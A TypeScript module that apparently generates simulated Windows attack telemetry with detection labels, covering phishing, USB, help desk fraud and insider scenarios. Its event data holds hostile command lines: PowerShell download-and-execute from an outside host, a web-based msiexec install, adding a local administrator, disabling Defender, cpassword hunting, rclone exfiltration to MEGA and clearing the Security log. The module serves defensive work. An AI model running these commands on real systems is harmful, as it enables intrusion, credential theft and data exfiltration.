/** Attacks that begin at somebody's desk: mail, removable media, help desk fraud, insiders. */
import type { Cast } from "./cast.ts";
import type { Process } from "./session.ts";
import { becomeSystem, dumpCredentials, encrypt, lookAround, moveTo, readDirectory } from "./steps.ts";

/** Mail with a document → SYSTEM on the workstation → credentials → a server → the domain → ransomware on many machines. */
export function phishingToRansomware(cast: Cast): void {
  const { intruder } = cast;
  const { dice } = intruder;
  const { machine, user } = cast.desk();
  const shell = openedDocument(cast, intruder.process(intruder.atWork(machine, user), "explorer.exe"));
  lookAround(cast, shell);
  intruder.wait(5, 60);
  const system = becomeSystem(cast, shell);
  dumpCredentials(cast, system);
  intruder.wait(5, 90);
  const server = cast.server();
  const admin = dice.chance(0.6) ? cast.account() : null;
  const there = moveTo(cast, system, server, admin);
  if (dice.chance(0.7)) readDirectory(cast, there, admin ?? cast.account());
  intruder.wait(10, 120);
  const hosts = Array.from({ length: dice.int(3, 12) }, () => (dice.chance(0.3) ? cast.server() : cast.workstation()));
  encrypt(cast, hosts, admin, { machine: server, ip: server.ip });
}

/** A document that only gets as far as its reader's machine, as the reader and as SYSTEM. */
export function phishingStopped(cast: Cast): void {
  const { intruder } = cast;
  const { machine, user } = cast.desk();
  const shell = openedDocument(cast, intruder.process(intruder.atWork(machine, user), "explorer.exe"));
  lookAround(cast, shell);
  intruder.act(
    shell,
    13,
    {
      TargetObject: "HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
      Details: "rundll32 C:\\Users\\Public\\u.dll",
    },
    "run_key",
  );
  intruder.wait(1, 40);
  const system = becomeSystem(cast, shell);
  intruder.open(system, "lsass.exe", "0x1010", "lsass_flags");
  dumpCredentials(cast, system);
}

function openedDocument({ intruder }: Cast, explorer: Process): Process {
  const { dice } = intruder;
  const url = `http://${intruder.outside()}/a`;
  switch (dice.int(0, 2)) {
    case 0: {
      const word = intruder.process(explorer.session, dice.pick(["WINWORD.EXE", "EXCEL.EXE"]), "Invoice.docm");
      const cmd = intruder.start(word, "cmd.exe", "cmd /c powershell -w hidden -enc SQBFAFgA", "office_child");
      return intruder.start(cmd, "powershell.exe", "powershell -w hidden -enc SQBFAFgA", "ps_base64 ps_encoded");
    }
    case 1: {
      intruder.act(explorer, 11, { TargetFilename: "C:\\Users\\Public\\Downloads\\scan.pdf.lnk" }, "lnk_double");
      const hta = intruder.start(explorer, "mshta.exe", `mshta ${url}/a.hta`, "");
      return intruder.start(
        hta,
        "powershell.exe",
        `powershell IEX (New-Object Net.WebClient).DownloadString('${url}')`,
        "mshta_child ps_download",
      );
    }
    default: {
      intruder.event(
        explorer.session,
        12,
        "Microsoft-Windows-VHDMP-Operational",
        { VhdFileName: "C:\\Users\\Public\\Offer.iso" },
        "iso_mount",
      );
      const dll = intruder.start(explorer, "rundll32.exe", "rundll32 D:\\docs.dll,#1", "rundll32_odd");
      intruder.act(dll, 17, { PipeName: "\\msagent_a1" }, "cs_pipe");
      return dll;
    }
  }
}

/** A stick whose shortcut starts an installer from the web; it comes back as a task of the machine. */
export function removableMedia(cast: Cast): void {
  const { intruder } = cast;
  const { machine, user } = cast.desk();
  const session = intruder.atWork(machine, user);
  const explorer = intruder.process(session, "explorer.exe");
  const cmd = intruder.start(explorer, "cmd.exe", "cmd /R <E:\\x.log", "");
  const msi = intruder.start(cmd, "msiexec.exe", `msiexec /q /i http://${intruder.outside()}:8080/a`, "msiexec_web");
  const dll = intruder.start(msi, "rundll32.exe", "rundll32 C:\\ProgramData\\q.dll,Start", "rundll32_odd");
  intruder.open(dll, "explorer.exe", "0x1fffff", "injection");
  lookAround(cast, dll);
  const task = intruder.start(
    dll,
    "schtasks.exe",
    "schtasks /create /ru SYSTEM /sc hourly /tn Upd /tr rundll32",
    "task_system",
  );
  intruder.wait(30, 200);
  const host = intruder.process(intruder.system(task.session.machine), "svchost.exe", "svchost -k netsvcs -s Schedule");
  const again = intruder.start(host, "rundll32.exe", "rundll32 C:\\ProgramData\\q.dll,Start", "system_shell");
  dumpCredentials(cast, again);
}

/** Somebody calls as the help desk: remote control, a new local administrator, who then logs on over the network. */
export function helpDeskFraud(cast: Cast): void {
  const { intruder } = cast;
  const { dice } = intruder;
  const { machine: desk, user: owner } = cast.desk();
  const user = intruder.atWork(desk, owner);
  const explorer = intruder.process(user, "explorer.exe");
  const remote = intruder.start(
    explorer,
    "anydesk.exe",
    "anydesk --install C:\\ProgramData\\AnyDesk --silent",
    "anydesk anydesk_run",
  );
  const shell = intruder.start(remote, "powershell.exe", "powershell", "");
  lookAround(cast, shell);
  const name = `support${dice.int(1, 99)}`;
  intruder.start(shell, "net.exe", `net user ${name} P@ss /add`, "new_user");
  intruder.event(
    user,
    4732,
    "Security",
    { TargetUserName: "Administrators", MemberName: `${desk.name.split(".")[0]?.toUpperCase()}\\${name}` },
    "local_admin",
  );
  intruder.wait(3, 120);
  const local = intruder.logon(desk, name, { machine: desk, ip: intruder.outside() }, 10, "rdp_public", true);
  const own = intruder.process(local, "explorer.exe");
  const cmd = intruder.start(own, "cmd.exe", "cmd", "");
  intruder.start(cmd, "powershell.exe", "powershell Set-MpPreference -DisableRealtimeMonitoring $true", "defender_off");
  dumpCredentials(cast, cmd);
}

/** Somebody takes along what they may read, and what a colleague's account may read. */
export function insider(cast: Cast): void {
  const { intruder } = cast;
  const { dice } = intruder;
  const { machine: desk, user } = cast.desk();
  const own = intruder.atWork(desk, user);
  const explorer = intruder.process(own, "explorer.exe");
  const files = cast.server();
  const share = { ShareName: "\\\\*\\Finance", RelativeTargetName: "plans.kdbx", IpAddress: desk.ip };
  const there = intruder.logon(files, user, { machine: desk, ip: desk.ip }, 3, "");
  for (let at = 0; at < dice.int(1, 3); at++) intruder.event(there, 5145, "Security", share, "share_access", desk.ip);
  intruder.start(explorer, "findstr.exe", "findstr /S /I cpassword \\\\corp\\sysvol\\*.xml", "findstr_pass");
  if (dice.chance(0.6)) {
    // The colleague's password, tried from the same desk.
    const colleague = cast.user();
    intruder.event(
      own,
      4648,
      "Security",
      {
        TargetUserName: colleague,
        TargetDomainName: "CORP",
        TargetServerName: files.name.split(".")[0] ?? "",
        ProcessName: explorer.image,
      },
      "explicit",
    );
    const other = intruder.logon(files, colleague, { machine: desk, ip: desk.ip }, 10, "admin_logon");
    const cmd = intruder.start(
      intruder.process(other, "explorer.exe"),
      "7z.exe",
      "7z a -pSecret C:\\Users\\Public\\f.7z D:\\Finance",
      "archive",
    );
    intruder.start(cmd, "rclone.exe", "rclone copy C:\\Users\\Public\\f.7z mega:x", "rclone");
    intruder.act(cmd, 22, { QueryName: "g.api.mega.co.nz" }, "mega");
    return;
  }
  intruder.start(explorer, "7z.exe", "7z a -pSecret C:\\Users\\Public\\f.7z", "archive");
  const copy = intruder.start(explorer, "rclone.exe", "rclone copy C:\\Users\\Public\\f.7z mega:x", "rclone");
  intruder.act(copy, 22, { QueryName: "g.api.mega.co.nz" }, "mega");
  intruder.wait(5, 60);
  const system = becomeSystem(cast, explorer);
  intruder.start(system, "wevtutil.exe", "wevtutil cl Security", "log_clear");
}
